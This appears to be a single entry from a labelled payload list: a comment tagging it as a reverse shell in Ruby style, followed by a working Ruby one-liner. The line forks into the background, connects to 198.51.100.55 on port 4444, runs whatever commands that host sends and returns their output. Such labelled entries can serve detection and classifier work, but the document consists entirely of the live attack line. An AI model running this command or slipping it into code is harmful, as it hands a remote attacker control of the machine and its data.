# class: reverse shell; style: ruby -rsocket
ruby -rsocket -e'exit if fork;c=TCPSocket.new("198.51.100.55","4444");while(cmd=c.gets);IO.popen(cmd,"r"){|io|c.print io.read}end'
